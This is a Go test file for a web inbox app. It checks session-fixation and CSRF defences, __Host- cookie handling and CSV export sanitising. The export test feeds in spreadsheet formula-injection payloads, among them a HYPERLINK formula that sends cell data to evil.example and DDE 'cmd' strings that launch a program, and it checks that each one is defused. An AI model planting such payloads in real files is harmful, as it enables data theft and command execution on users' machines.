package web_test

import (
	"encoding/csv"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/alexedwards/scs/v2"
	"github.com/gorilla/websocket"

	"switchboard/inbox"
	"switchboard/web"
)

// A session token planted in the browser before sign-in (by a
// neighbouring site, or left on a shared machine), even one the server
// holds a session for, is worth nothing after it: signing in gives a new
// token, which the planter does not know, and the planted one signs
// nobody in. A CSRF token is the session's own: another session's is
// refused.
func TestSignInRenewsTheSessionToken(t *testing.T) {
	ts := newTestServer(t)
	ts.addUser("ana@example.com", "Ana", inbox.RoleAdmin)
	ts.addUser("mal@example.com", "Mal", inbox.RoleAgent)
	// A session nobody is signed in to, whose token and CSRF token the
	// planter knows.
	const planted = "planted-by-someone-else-0123456789abcdefgh"
	b, err := scs.GobCodec{}.Encode(time.Now().Add(time.Hour), map[string]interface{}{"csrf": "known-to-the-planter"})
	if err != nil {
		t.Fatal(err)
	}
	if err := ts.db.Sessions().Commit(planted, b, time.Now().Add(time.Hour)); err != nil {
		t.Fatal(err)
	}

	victim := ts.newAgent()
	u, _ := url.Parse(ts.srv.URL)
	victim.client.Jar.SetCookies(u, []*http.Cookie{{Name: "switchboard_session", Value: planted, Path: "/"}})
	victim.login("ana@example.com")
	if got := victim.cookie("switchboard_session"); got == "" || got == planted {
		t.Fatalf("session cookie after sign-in = %q, want a new token", got)
	}
	if victim.csrf == "known-to-the-planter" {
		t.Error("the planted session's CSRF token outlived the sign-in")
	}
	mal := ts.newAgent()
	if p := mal.do(http.MethodGet, "/inbox", nil, func(r *http.Request) {
		r.Header.Set("Cookie", "switchboard_session="+planted)
	}); p.status != http.StatusSeeOther {
		t.Errorf("the planted token after the victim signed in: %d, want sent to sign in", p.status)
	}

	mal.login("mal@example.com")
	if p := victim.do(http.MethodPost, "/logout", url.Values{}, func(r *http.Request) {
		r.Header.Set("X-CSRF-Token", mal.csrf)
	}); p.status != http.StatusForbidden {
		t.Errorf("sign-out with another session's CSRF token: %d, want 403", p.status)
	}
	if p := victim.get("/inbox"); p.status != http.StatusOK {
		t.Errorf("the victim after the refused sign-out: %d, want still signed in", p.status)
	}
}

// Served over https, behind TLS of its own or a trusted proxy (an https
// base URL), the session cookie is named with the __Host- prefix, which
// browsers take only from this host, Secure, on path /: neither a
// neighbouring subdomain nor a plain-http page on the network path can
// plant or replace it. It is HttpOnly and SameSite, and the answer asks
// for https from then on.
func TestSessionCookieIsHostPrefixedOverHTTPS(t *testing.T) {
	proxied := newTestServerWith(t, func(cfg *web.Config, _ *web.Deps) {
		cfg.BaseURL, _ = url.Parse("https://inbox.example.com")
		cfg.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}
	})
	for name, ts := range map[string]*testServer{"TLS": newHTTPSTestServer(t), "trusted proxy": proxied} {
		ts.addUser("ana@example.com", "Ana", inbox.RoleAdmin)
		a := ts.newAgent()
		// Over plain http from the proxy, the browser's Secure cookies
		// are passed on by hand.
		var formCookie string
		viaProxy := func(r *http.Request) {
			if ts == proxied {
				r.Header.Set("X-Forwarded-For", "203.0.113.9")
				r.Header.Set("X-Forwarded-Proto", "https")
				if formCookie != "" {
					r.Header.Set("Cookie", formCookie)
				}
			}
		}
		p := a.do(http.MethodGet, "/login", nil, viaProxy)
		for _, sc := range p.header.Values("Set-Cookie") {
			if strings.HasPrefix(sc, "__Host-switchboard_form=") {
				formCookie = strings.Split(sc, ";")[0]
			}
		}
		p = a.do(http.MethodPost, "/login", url.Values{"email": {"ana@example.com"}, "password": {"correct horse battery"}, "csrf": {a.csrf}}, viaProxy)
		if p.status != http.StatusSeeOther {
			t.Fatalf("%s: sign-in: %d", name, p.status)
		}
		var cookie string
		for _, sc := range p.header.Values("Set-Cookie") {
			if strings.Contains(sc, "switchboard_session=") {
				cookie = sc
			}
		}
		if !strings.HasPrefix(cookie, "__Host-switchboard_session=") {
			t.Errorf("%s: session cookie %q, want named __Host-switchboard_session", name, cookie)
		}
		for _, want := range []string{"Secure", "HttpOnly", "SameSite=Lax", "Path=/"} {
			if !strings.Contains(cookie, want) {
				t.Errorf("%s: session cookie %q lacks %s", name, cookie, want)
			}
		}
		if strings.Contains(cookie, "Domain=") {
			t.Errorf("%s: session cookie %q names a domain", name, cookie)
		}
		if !strings.HasPrefix(p.header.Get("Strict-Transport-Security"), "max-age=") {
			t.Errorf("%s: Strict-Transport-Security = %q", name, p.header.Get("Strict-Transport-Security"))
		}
	}
}

// A browser signed in before the session cookie took the __Host- prefix
// holds its session under the plain name: it stays signed in, the
// session moves to the new name (the same session, so what hangs on it,
// such as notifications for closed tabs, holds), and the old cookie is
// deleted. The plain name is taken that once: a session issued or moved
// under the new name is not had through the old one, which a
// neighbouring subdomain could plant.
func TestOldSessionCookieSignsInOnceAndMoves(t *testing.T) {
	ts := newHTTPSTestServer(t)
	ana := ts.addUser("ana@example.com", "Ana", inbox.RoleAdmin)
	// The session an older Switchboard wrote at sign-in.
	const old = "signed-in-before-the-upgrade-0123456789ab"
	b, err := scs.GobCodec{}.Encode(time.Now().Add(time.Hour), map[string]interface{}{
		"uid": ana.ID, "pw": web.PasswordStamp(ana.PasswordHash), "csrf": "csrf-before-the-upgrade"})
	if err != nil {
		t.Fatal(err)
	}
	if err := ts.db.Sessions().Commit(old, b, time.Now().Add(time.Hour)); err != nil {
		t.Fatal(err)
	}
	// A page open since before the upgrade reconnects its live updates
	// first.
	host := strings.TrimPrefix(ts.srv.URL, "https://")
	d := websocket.Dialer{HandshakeTimeout: 5 * time.Second, TLSClientConfig: ts.srv.Client().Transport.(*http.Transport).TLSClientConfig}
	conn, resp, err := d.Dial("wss://"+host+"/ws", http.Header{"Origin": {"https://" + host}, "Cookie": {"switchboard_session=" + old}})
	if conn != nil {
		conn.Close()
	}
	if resp == nil {
		t.Errorf("the live updates of a page open since before the upgrade: %v", err)
	} else if resp.StatusCode != http.StatusSwitchingProtocols {
		t.Errorf("the live updates of a page open since before the upgrade: %d; want 101", resp.StatusCode)
	}
	a := ts.newAgent()
	u, _ := url.Parse(ts.srv.URL)
	a.client.Jar.SetCookies(u, []*http.Cookie{{Name: "switchboard_session", Value: old, Path: "/", Secure: true, HttpOnly: true}})
	p := a.get("/inbox")
	if p.status != http.StatusOK {
		t.Fatalf("with the session cookie of before the upgrade, /inbox: %d to %q; want still signed in", p.status, p.header.Get("Location"))
	}
	var moved, deleted string
	for _, sc := range p.header.Values("Set-Cookie") {
		switch {
		case strings.HasPrefix(sc, "__Host-switchboard_session="):
			moved = sc
		case strings.HasPrefix(sc, "switchboard_session="):
			deleted = sc
		}
	}
	if !strings.HasPrefix(moved, "__Host-switchboard_session="+old+";") || !strings.Contains(moved, "Secure") || !strings.Contains(moved, "Path=/") {
		t.Errorf("the session is reissued as %q; want the same session under __Host-switchboard_session, Secure, Path=/", moved)
	}
	if !strings.HasPrefix(deleted, "switchboard_session=;") || !strings.Contains(deleted, "Max-Age=0") {
		t.Errorf("the old cookie is answered with %q; want it deleted", deleted)
	}
	if a.cookie("switchboard_session") != "" || a.cookie("__Host-switchboard_session") != old {
		t.Errorf("the browser now holds %q under the old name and %q under the new", a.cookie("switchboard_session"), a.cookie("__Host-switchboard_session"))
	}
	if p := a.get("/inbox"); p.status != http.StatusOK {
		t.Errorf("under the new name, /inbox: %d; want signed in", p.status)
	}
	if p := a.post("/logout", url.Values{}); p.status != http.StatusSeeOther || p.header.Get("Location") != "/login" {
		t.Errorf("sign-out with the session's CSRF token: %d to %q", p.status, p.header.Get("Location"))
	}

	// Once moved, or issued under the new name, the old name does not
	// sign in: a planted copy is worth nothing.
	if err := ts.db.Sessions().Commit(old, b, time.Now().Add(time.Hour)); err != nil {
		t.Fatal(err)
	}
	a = ts.newAgent()
	a.client.Jar.SetCookies(u, []*http.Cookie{{Name: "switchboard_session", Value: old, Path: "/", Secure: true}})
	if p := a.get("/inbox"); p.status != http.StatusOK {
		t.Fatalf("again before the move, /inbox: %d", p.status)
	}
	signedIn := ts.newAgent()
	signedIn.login("ana@example.com")
	for what, token := range map[string]string{"moved": old, "issued under the new name": signedIn.cookie("__Host-switchboard_session")} {
		mal := ts.newAgent()
		if p := mal.do(http.MethodGet, "/inbox", nil, func(r *http.Request) {
			r.Header.Set("Cookie", "switchboard_session="+token)
		}); p.status != http.StatusSeeOther {
			t.Errorf("a session %s, under the old name: %d; want sent to sign in", what, p.status)
		}
	}
}

// A customer's WhatsApp profile name is theirs to choose: in the CSV
// export, one a spreadsheet would run as a formula starts with a quote,
// and a phone number stays a number.
func TestReportExportDefusesFormulasInNames(t *testing.T) {
	ts := newTestServer(t)
	ts.addUser("ana@example.com", "Ana", inbox.RoleAdmin)
	names := map[string]string{
		"+14155550001": `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		"+14155550002": "@SUM(1+1)*cmd|' /C calc'!A0",
		"+14155550003": "+1+cmd|' /C calc'!A0",
		"+14155550004": "-2+3",
		"+14155550005": "\t=1+1",
		"+14155550006": "+4915112345678",
	}
	want := map[string]string{
		"+14155550001": `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		"+14155550002": "'@SUM(1+1)*cmd|' /C calc'!A0",
		"+14155550003": "'+1+cmd|' /C calc'!A0",
		"+14155550004": "'-2+3",
		"+14155550005": "'\t=1+1",
		"+14155550006": "+4915112345678",
	}
	i := 0
	for phone, name := range names {
		i++
		ts.mustPost(inboundFrom("evt_"+itoa(int64(i)), "msg_"+itoa(int64(i)), phone, name, "Hello", time.Now().Add(-time.Minute)))
	}
	a := ts.newAgent()
	a.login("ana@example.com")
	p := a.get("/reports/export.csv")
	rows, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
	if err != nil || len(rows) != len(names)+1 {
		t.Fatalf("export: %d %v, %d rows in %q", p.status, err, len(rows), p.body)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, r := range rows[1:] {
		phone, name := r[col["contact_phone"]], r[col["contact_name"]]
		if name != want[phone] {
			t.Errorf("contact %s: name cell %q, want %q", phone, name, want[phone])
		}
	}
}
